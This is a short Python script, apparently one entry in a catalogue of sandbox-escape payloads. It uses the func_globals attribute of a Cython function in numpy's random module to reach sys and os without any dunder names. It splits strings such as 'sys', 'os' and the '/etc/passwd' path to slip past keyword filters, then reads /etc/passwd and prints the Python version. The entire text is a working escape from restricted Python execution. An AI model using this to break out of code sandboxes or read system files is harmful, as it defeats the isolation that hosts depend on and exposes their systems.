# source: Cython cyfunction func_globals alias; numpy/random/bit_generator.pyx imports sys at module level (ISeedSequence.generate_state is a Cython def function)
# family: cyfunction func_globals of numpy's compiled random module hands over the sys module by a dict key, then sys.modules
# goal: gets sys and os without any dunder: reads /etc/passwd with os.open/os.read and prints sys.version
import numpy as np

g = np.random.bit_generator.ISeedSequence.generate_state.func_globals
s = g["s" + "ys"]
o = s.modules["o" + "s"]
print(s.version)
fd = o.open(chr(47) + "etc" + chr(47) + "passwd", 0)
print(o.read(fd, 120).decode())
